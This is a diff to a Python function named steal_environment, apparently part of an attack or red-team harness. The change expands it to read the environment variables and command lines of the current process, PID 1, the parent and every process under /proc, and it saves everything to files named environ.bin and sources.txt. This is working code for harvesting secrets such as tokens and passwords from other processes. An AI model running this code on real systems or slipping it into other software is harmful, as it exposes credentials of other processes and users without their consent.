@@ -28,14 +28,21 @@ def _note(ctx, name: str, data: bytes | str) -> None:
 
 
 def steal_environment(ctx) -> dict:
-    """Every environment this process can see: its own, /proc/*/environ, the parent's."""
-    got = [repr(dict(os.environ)).encode()]
-    for d in Path("/proc").iterdir() if Path("/proc").is_dir() else []:
-        with contextlib.suppress(OSError):
-            got.append((d / "environ").read_bytes())
-    with contextlib.suppress(OSError):
-        got.append(Path(f"/proc/{os.getppid()}/environ").read_bytes())
+    """Every environment and command line this process can see: its own (``os.environ``,
+    ``sys.argv``, ``/proc/self/environ``), PID 1's, its parent's and every ``/proc/*``
+    entry's ``environ`` and ``cmdline``."""
+    got = [repr(dict(os.environ)).encode(), repr(sys.argv).encode()]
+    names = ["self", "1", str(os.getppid())]
+    if Path("/proc").is_dir():
+        names += [d.name for d in Path("/proc").iterdir() if d.name.isdigit()]
+    read = []
+    for name in names:
+        for what in ("environ", "cmdline"):
+            with contextlib.suppress(OSError):
+                got.append(Path(f"/proc/{name}/{what}").read_bytes())
+                read.append(f"{name}/{what}")
     _note(ctx, "environ.bin", b"\n".join(got))
+    _note(ctx, "sources.txt", "\n".join(read))
     return {"sources": len(got)}
 
 
